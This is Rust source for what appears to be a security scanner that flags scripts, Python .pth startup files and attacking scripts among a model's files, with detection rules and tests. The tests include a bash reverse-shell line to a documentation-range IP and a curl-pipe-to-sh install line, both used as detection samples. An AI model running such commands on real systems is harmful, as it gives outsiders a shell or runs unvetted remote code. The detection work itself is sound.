//! Text: scripts, startup files of Python, and everything that people write beside a model.

pub(crate) mod shell;

use bastide_types::{Assessment, Rule, Severity};
use shell::Attack;

use crate::code;
use crate::document::looks_like_text;
use crate::format::{Format, Glance};
use crate::halt::Parsed;
use crate::scan::{Scan, shown};
use crate::source::{Source, read_up_to};

/// A script.
pub(crate) const SCRIPT: Rule = Rule {
    id: "script.file",
    severity: Severity::Low,
    effect: Assessment::Review,
    title: "script among the model's files",
    why: "no loader needs it; somebody who follows the instructions runs it",
    fix: "read the script before running it",
    cwe: &[],
    atlas: &["AML.T0010.003"],
};

/// A script that attacks.
pub(crate) const ATTACK: Rule = Rule {
    id: "script.attack",
    severity: Severity::Critical,
    effect: Assessment::Malicious,
    title: "script attacks the machine that runs it",
    why: "it runs what it downloads, opens a shell to elsewhere, sends files away or destroys them",
    fix: "do not run the script; distrust what came with it",
    cwe: &[94, 494],
    atlas: &["AML.T0010.003", "AML.T0011.000"],
};

/// A startup file.
pub(crate) const STARTUP: Rule = Rule {
    id: "script.startup",
    severity: Severity::Critical,
    effect: Assessment::Malicious,
    title: "startup file of Python runs code",
    why: "every interpreter runs the lines that begin with `import` of each `.pth` file among its packages",
    fix: "do not install the file",
    cwe: &[94],
    atlas: &["AML.T0010.001", "AML.T0011.000"],
};

/// What this family looks for.
pub(crate) const RULES: &[&Rule] = &[&ATTACK, &STARTUP, &SCRIPT];

/// Adds what a loader could take the file for. Text is what nothing else is.
pub(crate) fn recognise(glance: &Glance<'_>, formats: &mut Vec<Format>) -> Parsed<()> {
    let head = glance.head;
    let startup = glance.named("pth") && startup_line(head).is_some();
    if !formats.is_empty() && !startup || !looks_like_text(head) {
        return Ok(());
    }
    let interpreter = head.strip_prefix(b"#!").and_then(|rest| rest.split(|byte| *byte == b'\n').next());
    let python = interpreter.is_some_and(|line| memchr::memmem::find(line, b"python").is_some());
    let format = if startup {
        Format::Script
    } else if python || glance.named("py") || glance.named("pyw") {
        Format::Python
    } else if interpreter.is_some() || is_script(glance) {
        Format::Script
    } else if is_python(head) {
        Format::Python
    } else {
        Format::Text
    };
    formats.push(format);
    Ok(())
}

fn is_script(glance: &Glance<'_>) -> bool {
    const NAMES: &[&str] = &[
        "bash", "bat", "cmd", "command", "fish", "hta", "jse", "ksh", "ps1", "psm1", "sh", "vbe", "vbs",
        "wsf", "zsh",
    ];
    const STARTS: &[&str] = &[
        "@echo off",
        "@echo on",
        "setlocal",
        "#requires ",
        "powershell ",
        "param(",
        "[cmdletbinding",
        "<job",
        "wscript.",
    ];
    let head = glance.head.get(..512).unwrap_or(glance.head);
    let text = String::from_utf8_lossy(head).trim_start().to_ascii_lowercase();
    NAMES.iter().any(|name| glance.named(name)) || STARTS.iter().any(|start| text.starts_with(start))
}

/// Python source without a mark: several lines that only Python has.
fn is_python(head: &[u8]) -> bool {
    let text = String::from_utf8_lossy(head);
    // Markdown with examples.
    if text.contains("```") {
        return false;
    }
    let mut lines = 0;
    let mut statements = 0;
    for line in text.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#')).take(60) {
        lines += 1;
        let words: Vec<&str> = line.split_whitespace().collect();
        statements += usize::from(match words.as_slice() {
            ["import", module, ..] => {
                module.chars().all(|c| c.is_alphanumeric() || "._,".contains(c))
                    && (words.len() == 2 || words.contains(&"as") || line.contains(','))
            }
            ["from", _, "import", ..] => true,
            ["def" | "class", ..] => line.ends_with(':'),
            _ => false,
        });
    }
    statements >= 2 && statements * 10 >= lines
}

/// The first line that Python runs of a `.pth` file.
fn startup_line(head: &[u8]) -> Option<String> {
    if !looks_like_text(head) {
        return None;
    }
    let text = String::from_utf8_lossy(head);
    text.lines().find(|line| line.starts_with("import ") || line.starts_with("import\t")).map(str::to_owned)
}

/// Reads the file as `format`, if it is one of this family's.
pub(crate) fn read(
    format: Format,
    source: &dyn Source,
    name: &str,
    scan: &mut Scan<'_>,
) -> Option<Parsed<()>> {
    match format {
        Format::Script => Some(script(source, name, scan)),
        Format::Python => Some(code::python(source, scan)),
        _ => None,
    }
}

fn script(source: &dyn Source, name: &str, scan: &mut Scan<'_>) -> Parsed<()> {
    let bytes = read_up_to(source, 0, scan.limits.structure_bytes)?;
    if name.to_ascii_lowercase().ends_with(".pth")
        && let Some(line) = startup_line(&bytes)
    {
        scan.find(&STARTUP, 0, format!("`{}`", shown(&line)));
        return Ok(());
    }
    let text = String::from_utf8_lossy(&bytes);
    match shell::attack(&text) {
        Some(Attack::Installer) | None => scan.find(&SCRIPT, 0, "the file is a script"),
        Some(attack) => scan.find(&ATTACK, 0, format!("the script holds {}", attack.name())),
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use bastide_types::Assessment;
    use proptest::prelude::*;

    use crate::{Format, Limits, scan};

    fn judge(text: &str, name: &str) -> (Format, Assessment) {
        let report = scan(&text.as_bytes(), name, &Limits::default());
        (report.format, report.assessment())
    }

    #[test]
    fn what_people_write_is_clean() {
        for (text, name) in [
            (
                "# Model\n\nInstall with:\n\n```sh\npip install torch\ncurl -fsSL https://example.org/i.sh | sh\n```\n",
                "README.md",
            ),
            ("a,b,c\n1,2,3\n", "data.csv"),
            ("[PAD]\n[UNK]\n##ing\nthe\n", "vocab.txt"),
            ("#version: 0.2\n\u{120} t\n\u{120} a\n", "merges.txt"),
            ("Apache License\nVersion 2.0, January 2004\nimport duties may apply\n", "LICENSE"),
        ] {
            assert_eq!(judge(text, name), (Format::Text, Assessment::Clean), "{name}");
        }
    }

    #[test]
    fn scripts_are_shown_and_attacks_told_apart() {
        assert_eq!(judge("#!/bin/sh\necho hello\n", "run"), (Format::Script, Assessment::Review));
        assert_eq!(judge("@echo off\r\necho hello\r\n", "x.txt"), (Format::Script, Assessment::Review));
        assert_eq!(
            judge("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "x"),
            (Format::Script, Assessment::Malicious)
        );
        assert_eq!(judge("import os; print('harmless')\n", "a.pth"), (Format::Script, Assessment::Malicious));
        assert_eq!(judge("../package\n", "a.pth"), (Format::Text, Assessment::Clean));
        assert_eq!(judge("import os\nimport sys\n\ndef f():\n    pass\n", "x").0, Format::Python);
    }

    proptest! {
        #[test]
        fn no_text_panics(text in "\\PC*", name in "[a-z]*\\.(sh|py|pth|txt)") {
            let _ = judge(&text, &name);
            let _ = judge(&format!("#!/bin/sh\n{text}"), &name);
        }
    }
}
